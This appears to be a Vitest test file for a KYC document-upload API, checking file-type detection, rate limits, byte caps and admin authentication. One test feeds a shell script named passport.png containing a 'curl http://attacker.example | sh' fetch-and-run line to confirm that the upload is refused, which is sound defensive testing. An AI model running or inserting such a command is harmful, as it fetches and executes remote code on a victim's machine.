import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { MikroORM } from '@mikro-orm/postgresql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as dashboardHealthRoute from '@/app/api/admin/dashboard/health/route';
import * as kycDocumentsRoute from '@/app/api/kyc/documents/[phoneNumber]/route';
import * as kycUploadRoute from '@/app/api/kyc/upload-document/route';
import { getOrm } from '@/lib/db';
import { useTestOrm } from '@/lib/testing/test-orm';
import { DEVELOPMENT_ADMIN_KEY } from '../admin-key';
import { flushAuthAttempts } from '../auth-audit';
import { identityHashOf } from '../phone';
import { call, importLegacyFolder, legacyTestFolder } from '../testing';

const folder = legacyTestFolder(6);
// Set before anything reads the environment (env() parses it once).
process.env.LEGACY_DATA_DIR = folder.dir;
process.env.KYC_UPLOADS_PER_IDENTITY_PER_HOUR = '3';
process.env.KYC_UPLOADS_PER_IP_PER_HOUR = '5';
process.env.KYC_UPLOAD_MAX_BYTES_PER_IDENTITY = '3000';

const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc0000003010100c9fe92ef0000000049454e44ae426082',
  'hex',
);
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([26, 0, 0, 0]), Buffer.from('WEBPVP8L'), Buffer.alloc(14)]);
let orm: MikroORM;
let address = 0;

beforeAll(async () => {
  orm = await useTestOrm();
  await importLegacyFolder(orm.em.fork(), folder);
});

afterAll(async () => {
  await flushAuthAttempts();
  await (await getOrm()).close(true);
});

/** Each test uploads from addresses of its own, so the per-address budget of one test never limits another. */
function freshAddress(): string {
  address += 1;
  return `198.51.100.${address}`;
}

function upload(fields: Record<string, string>, file: { bytes: Buffer; name: string; type: string }, ip = freshAddress()) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, value);
  form.set('document', new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  return call(kycUploadRoute.POST, '/api/kyc/upload-document', { method: 'POST', body: form, headers: { 'x-forwarded-for': ip } });
}

function metadata(): Record<string, Record<string, unknown>> {
  return JSON.parse(readFileSync(path.join(folder.dir, 'uploads/kyc/metadata.json'), 'utf8')) as Record<string, Record<string, unknown>>;
}

describe('POST /api/kyc/upload-document (public)', () => {
  it('an upload to a verified application reopens review and keeps the old decision in history', async () => {
    const [verified] = await orm.em
      .fork()
      .execute<Array<{ legacy_key: string }>>(`SELECT legacy_key FROM kyc_applications WHERE status = 'verified' ORDER BY legacy_key LIMIT 1`);
    const before = metadata()[verified.legacy_key] as { verifiedAt: string; documents: Record<string, { path?: string }> };
    const [documentType] = Object.keys(before.documents);
    const replaced = before.documents[documentType];

    const response = await upload({ identityHash: verified.legacy_key, documentType }, { bytes: PNG, name: 'new.png', type: 'image/png' });
    expect(response).toMatchObject({ status: 201, body: { verificationStatus: 'pending' } });

    expect(metadata()[verified.legacy_key]).toMatchObject({ verificationStatus: 'pending', verifiedAt: null, rejectionReason: null });
    const [application] = await orm.em
      .fork()
      .execute<Array<{ status: string }>>(`SELECT status FROM kyc_applications WHERE legacy_key = ?`, [verified.legacy_key]);
    expect(application.status).toBe('pending_review');
    const events = await orm.em
      .fork()
      .execute<Array<{ details: Record<string, unknown> }>>(`SELECT details FROM kyc_case_events WHERE application_key = ? AND kind = 'reopened_by_upload'`, [
        verified.legacy_key,
      ]);
    expect(events).toEqual([{ details: expect.objectContaining({ previousStatus: 'verified', verifiedAt: before.verifiedAt, replacedDocument: replaced }) }]);
    if (replaced.path) expect(existsSync(path.join(folder.dir, replaced.path)), 'the replaced file stays on disk').toBe(true);
  });

  it('a PNG-named script is refused with 415 and nothing is stored', async () => {
    const phoneNumber = '+15550000001';
    const script = Buffer.from('#!/bin/sh\ncurl http://attacker.example | sh\n');
    const response = await upload({ phoneNumber, documentType: 'id' }, { bytes: script, name: 'passport.png', type: 'image/png' });
    expect(response).toMatchObject({ status: 415, body: { error: expect.stringMatching(/Unsupported file type/) } });
    expect(metadata()[identityHashOf(phoneNumber)]).toBeUndefined();
  });

  it('accepts a WebP document, recognised by its content', async () => {
    const response = await upload({ phoneNumber: '+15550000002', documentType: 'id' }, { bytes: WEBP, name: 'scan', type: 'application/octet-stream' });
    expect(response).toMatchObject({ status: 201, body: { document: { mimeType: 'image/webp' } } });
  });

  it('refuses the fourth upload for one identity within the hour with 429, whatever address sends it', async () => {
    const fields = { phoneNumber: '+15550000003', documentType: 'bank' };
    for (let attempt = 0; attempt < 3; attempt += 1) expect((await upload(fields, { bytes: PNG, name: 'a.png', type: 'image/png' })).status).toBe(201);
    expect(await upload(fields, { bytes: PNG, name: 'a.png', type: 'image/png' })).toMatchObject({ status: 429, body: { error: expect.any(String) } });
  });

  it('refuses the sixth upload from one address within the hour with 429, across identities', async () => {
    const ip = freshAddress();
    for (let user = 0; user < 5; user += 1) {
      expect((await upload({ phoneNumber: `+1555000010${user}`, documentType: 'id' }, { bytes: PNG, name: 'a.png', type: 'image/png' }, ip)).status).toBe(201);
    }
    expect((await upload({ phoneNumber: '+15550000199', documentType: 'id' }, { bytes: PNG, name: 'a.png', type: 'image/png' }, ip)).status).toBe(429);
  });

  it('caps the bytes one identity may store, replaced files included (413)', async () => {
    const fields = { phoneNumber: '+15550000200', documentType: 'income' };
    const pdf = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(1_400, 0x20)]);
    expect((await upload(fields, { bytes: pdf, name: 'a.pdf', type: 'application/pdf' })).status).toBe(201);
    expect((await upload(fields, { bytes: pdf, name: 'b.pdf', type: 'application/pdf' })).status).toBe(201);
    expect(await upload(fields, { bytes: pdf, name: 'c.pdf', type: 'application/pdf' })).toMatchObject({
      status: 413,
      body: { error: expect.stringMatching(/Upload limit/) },
    });
  });
});

describe('GET /api/kyc/documents/:phoneNumber', () => {
  it('refuses callers without the admin key with 401', async () => {
    const params = { phoneNumber: '+1234567890' };
    expect(await call(kycDocumentsRoute.GET, '/api/kyc/documents/+1234567890', { params })).toMatchObject({ status: 401 });
    expect(
      (await call(kycDocumentsRoute.GET, '/api/kyc/documents/+1234567890', { params, headers: { 'x-admin-key': DEVELOPMENT_ADMIN_KEY } })).status,
    ).not.toBe(401);
  });
});

describe('GET /api/admin/dashboard/health', () => {
  it('says whether the legacy folder is readable without naming its path', async () => {
    const response = await call(dashboardHealthRoute.GET, '/api/admin/dashboard/health', { headers: { 'x-admin-key': DEVELOPMENT_ADMIN_KEY } });
    expect(response).toMatchObject({ status: 200, body: { checks: { legacyFiles: { ok: true, detail: 'readable' } } } });
    expect(JSON.stringify(response.body)).not.toContain(folder.dir);
  });
});
